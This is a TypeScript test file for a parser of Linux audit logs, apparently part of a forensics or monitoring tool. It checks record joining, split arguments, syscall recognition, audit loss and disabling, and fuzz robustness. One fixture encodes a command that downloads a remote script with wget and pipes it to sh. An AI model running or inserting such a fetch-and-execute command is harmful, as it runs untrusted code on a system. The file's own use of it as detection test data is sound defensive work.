import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readAuditLog } from './read-audit-log.js';

const hex = (text: string) => Buffer.from(text).toString('hex').toUpperCase();
const call = (serial: number, more = '') =>
  `type=SYSCALL msg=audit(1767571200.123:${serial}): arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=56 items=2 ppid=10 pid=100 auid=4294967295 uid=1001 gid=1001 tty=(none) ses=4294967295 comm="wget" exe="/usr/bin/wget" key="exec"${more}`;
const execve = (serial: number, body: string) => `type=EXECVE msg=audit(1767571200.123:${serial}): ${body}`;

function read(lines: readonly string[]) {
  const reading = readAuditLog(lines.join('\n'));
  if (!reading.ok) throw new Error(reading.reason);
  return reading.value;
}

describe('readAuditLog', () => {
  it('joins the records of two interleaved starts', () => {
    const value = read([
      call(1, '\u001dARCH=x86_64 SYSCALL=execve AUID="unset"'),
      call(2),
      execve(1, `argc=3 a0="sh" a1="-c" a2=${hex('wget -qO- "http://203.0.113.9/a" | sh')}`),
      execve(2, 'argc=1 a0="id"'),
      'type=CWD msg=audit(1767571200.123:1): cwd="/app"',
      `type=PROCTITLE msg=audit(1767571200.123:1): proctitle=${hex('sh\0-c')}`,
      'type=EOE msg=audit(1767571200.123:1): ',
    ]);
    expect(value.execs.map((one) => one.argv)).toEqual([['sh', '-c', 'wget -qO- "http://203.0.113.9/a" | sh'], ['id']]);
    expect(value.execs[0]).toEqual({
      source: 'audit',
      serial: '1',
      at: new Date(1_767_571_200_123),
      pid: 100,
      ppid: 10,
      uid: 1001,
      auid: null,
      exe: '/usr/bin/wget',
      comm: 'wget',
      tty: null,
      cwd: '/app',
      argv: ['sh', '-c', 'wget -qO- "http://203.0.113.9/a" | sh'],
      argvTruncated: false,
      success: true,
      exit: 0,
      key: 'exec',
      container: null,
      line: 1,
    });
  });

  it('puts a split argument together', () => {
    const long = 'é'.repeat(300);
    const value = read([
      call(1),
      execve(1, `argc=2 a0="x" a1_len=600 a1[0]=${hex(long).slice(0, 602)}`),
      execve(1, `a1[1]=${hex(long).slice(602)}`),
    ]);
    expect(value.execs[0]?.argv).toEqual(['x', long]);
    expect(value.execs[0]?.argvTruncated).toBe(false);
  });

  it.each<[string, string, boolean]>([
    ['x86_64 execveat', 'arch=c000003e syscall=322', true],
    ['aarch64 execve', 'arch=c00000b7 syscall=221', true],
    ['i386 execve', 'arch=40000003 syscall=11', true],
    ['x86_64 munmap', 'arch=c000003e syscall=11', false],
    ['x86_64 connect', 'arch=c000003e syscall=42', false],
    ['as ausearch -i prints it', 'arch=x86_64 syscall=execve', true],
  ])('%s', (_, words, starts) => {
    expect(read([`node=web type=SYSCALL msg=audit(1.000:1): ${words} success=yes pid=5`]).execs.length).toBe(
      starts ? 1 : 0,
    );
  });

  it('tells losses, and what happened to auditing itself', () => {
    const value = read([
      'type=DAEMON_START msg=audit(1767571200.000:1): op=start ver=3.0.7 res=success',
      'audit: audit_lost=5 audit_rate_limit=0 audit_backlog_limit=64',
      'kernel: audit: backlog limit exceeded',
      'audit: audit_lost=9 audit_rate_limit=0 audit_backlog_limit=64',
      'type=CONFIG_CHANGE msg=audit(1767571201.000:2): auid=1000 ses=2 op=remove_rule key="exec" list=4 res=1',
      'type=CONFIG_CHANGE msg=audit(1767571202.000:3): op=set audit_enabled=0 old=1 auid=1000 ses=2 res=1',
      'type=DAEMON_END msg=audit(1767571203.000:4): op=terminate auid=0 res=success',
    ]);
    expect(value.lost).toBe(9);
    expect([value.daemonStarts.length, value.daemonStops.length, value.enabled]).toEqual([1, 1, false]);
    expect(value.configChanges.map((one) => [one.what, one.key, one.auid])).toEqual([
      ['rule-removed', 'exec', 1000],
      ['switched-off', null, 1000],
    ]);
  });

  it('is not enabled by a change that was refused, and refuses what is no audit log', () => {
    expect(read(['type=CONFIG_CHANGE msg=audit(1.000:3): op=set audit_enabled=0 old=1 res=0']).enabled).toBeNull();
    expect(readAuditLog('hello\nworld').ok).toBe(false);
  });

  it('never throws and stays linear', () => {
    const word = fc.constantFrom(
      'type=',
      'EXECVE',
      ' msg=audit(1.000:1): ',
      'a0=',
      '"',
      "'",
      'a1[0]=',
      '=',
      '41',
      '\n',
      ' ',
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(word, fc.string()), { maxLength: 60 }), (parts) => {
        readAuditLog(parts.join(''));
      }),
      { numRuns: 300 },
    );
    const began = performance.now();
    readAuditLog(`${call(1)}\n${execve(1, 'a0='.repeat(300_000))}\n${execve(1, '='.repeat(900_000))}`);
    expect(performance.now() - began).toBeLessThan(3000);
  });
});
